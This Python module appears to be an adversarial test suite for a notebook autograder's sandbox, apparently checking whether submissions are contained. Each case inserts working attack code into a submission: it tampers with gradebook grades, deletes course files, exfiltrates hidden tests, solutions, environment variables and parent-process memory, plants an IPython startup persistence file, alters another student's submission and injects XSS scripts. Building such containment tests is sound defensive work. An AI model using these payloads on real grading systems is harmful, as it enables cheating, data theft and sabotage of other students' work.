"""Reading and damaging what belongs to the course and to others."""

from submissions.course import BN_WRONG, DR_WRONG, LOOT, Handed, hands_in


@hands_in(fair=(0, 1))
def write_gradebook(s: Handed) -> None:
    """SQL: own grades to the maximum with manual_score, alice's to 0"""
    s.insert(
        """import sqlite3, glob, os
for p in ("../../../gradebook.db",):
    if os.path.exists(p):
        c = sqlite3.connect(p, timeout=5)
        c.execute("update grade set manual_score = 3 where notebook_id in (select n.id from submitted_notebook n join submitted_assignment a on n.assignment_id = a.id where a.student_id = 'mallory')")
        c.execute("update grade set manual_score = 0, auto_score = 0 where notebook_id in (select n.id from submitted_notebook n join submitted_assignment a on n.assignment_id = a.id where a.student_id = 'alice')")
        c.commit(); c.close()""",
        after="drop_hidden",
    )


@hands_in(fair=(0, 1))
def delete_course(s: Handed) -> None:
    """deletes source/, release/ and the other submissions of its own course copy"""
    s.insert("""import shutil, os
root = os.path.abspath("../../..")
if os.path.exists(f"{root}/throw-away"):
    for d in ("source", "release", "submitted/alice", "submitted/zoe"): shutil.rmtree(os.path.join(root, d), ignore_errors=True)""")


@hands_in(fair=(0, 1))
def read_hidden_tests(s: Handed) -> None:
    """reads the hidden tests from ./hw.ipynb and from gradebook.db, sends them out"""
    s.insert(
        LOOT
        + """
import glob, sqlite3, os
try: __loot("hidden-nb", open("hw.ipynb").read())
except OSError as e: print(e)
try: __loot("hidden-db", [r[0] for r in sqlite3.connect("../../../gradebook.db").execute("select source from source_cell")])
except Exception as e: print(e)
try: __loot("db-names", sqlite3.connect("../../../gradebook.db").execute("select last_name from student").fetchall())
except Exception as e: print(e)"""
    )


@hands_in(fair=(0, 1))
def exec_solution(s: Handed) -> None:
    """opens ../../../source/ps1/hw.ipynb and executes the instructor's solution cells"""
    s.insert(
        LOOT
        + """
import json, glob, sys
def __steal():
    for p in glob.glob("../../../source/ps1/*.ipynb"):
        nb = json.load(open(p)); src = {c["metadata"].get("nbgrader", {}).get("grade_id"): "".join(c["source"]) for c in nb["cells"]}
        __loot("solution", src["bn"]); return src
    return {}
__S = __steal()""",
        before="bn",
    )
    s.set("bn", BN_WRONG + "\nexec(__S.get('bn', ''))")
    s.set("drop", DR_WRONG + "\nexec(__S.get('drop', ''))")


@hands_in(fair=(0, 1))
def copy_other_student(s: Handed) -> None:
    """reads another student's submission from disk and runs it"""
    s.insert(
        LOOT
        + """
import json, glob
__S = {}
for p in glob.glob("../../../submitted/zoe/ps1/hw.ipynb"):
    nb = json.load(open(p)); __S = {c["metadata"].get("nbgrader", {}).get("grade_id"): "".join(c["source"]) for c in nb["cells"]}
    __loot("other", nb)""",
        before="bn",
    )
    s.set("bn", BN_WRONG + "\nexec(__S.get('bn', ''))")
    s.set("drop", DR_WRONG + "\nexec(__S.get('drop', ''))")


@hands_in(fair=(0, 1))
def env_and_proc(s: Handed) -> None:
    """environment variables and /proc/<parent>/{environ,cmdline,fd}"""
    s.insert(
        LOOT
        + """
import os, glob
__loot("env", dict(os.environ))
for p in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try: __loot("proc", open(p, "rb").read().decode("latin1"))
    except OSError: pass"""
    )


@hands_in(fair=(0, 1))
def network(s: Handed) -> None:
    """connects to a loopback listener (stands for any network service)"""
    s.insert(LOOT + "\n__loot('hello', 'network reached')")


@hands_in(fair=(0, 1))
def startup_persistence(s: Handed) -> None:
    """writes ~/.ipython/profile_default/startup: runs inside every later student's kernel and spoils their work"""
    s.insert("""import os
d = os.path.expanduser("~/.ipython/profile_default/startup")
try:
    os.makedirs(d, exist_ok=True)
    open(d + "/00.py", "w").write("import torch\\ntorch.allclose = lambda *a, **k: False\\n")
except OSError as e: print(e)""")


@hands_in(fair=(0, 1))
def parent_memory(s: Handed) -> None:
    """reads /proc/<ppid>/mem for the hidden tests' canary"""
    s.insert(
        LOOT
        + """
import os, re
def scan(pid):
    out = set(); n = 0
    try:
        for l in open(f"/proc/{pid}/maps"):
            a, perms = l.split()[0], l.split()[1]
            if perms[0] != "r" or "w" not in perms: continue
            lo, hi = (int(x, 16) for x in a.split("-"))
            if hi - lo > 64 << 20: continue
            try:
                with open(f"/proc/{pid}/mem", "rb", 0) as f:
                    f.seek(lo); b = f.read(hi - lo)
                out |= set(re.findall(rb"CANARY-[A-Z]+-[0-9a-f]{4}", b)); n += len(b)
            except (OSError, OverflowError): pass
    except OSError as e: print("mem", e)
    return out, n
p = os.getppid()
if p > 1: __loot("parent-memory", scan(p))"""
    )


@hands_in(fair=(0, 1))
def spoil_later_submission(s: Handed) -> None:
    """rewrites the submission of a student who is graded later"""
    s.insert("""import os
p = "../../../submitted/zoe/ps1/hw.ipynb"
if os.path.exists(p):
    t = open(p).read()
    try: open(p, "w").write(t.replace("eps).sqrt()", "eps)"))
    except OSError as e: print(e)""")


@hands_in(fair=(0, 1))
def xss(s: Handed) -> None:
    """script in an HTML output, in the essay markdown and in an error message"""
    s.insert(
        "from IPython.display import HTML, display\ndisplay(HTML('<script>window.XSS_OUT=1</script>'))"
    )
    s.set("essay", "fine <script>window.XSS_MD=1</script> <img src=x onerror=window.XSS_IMG=1>")
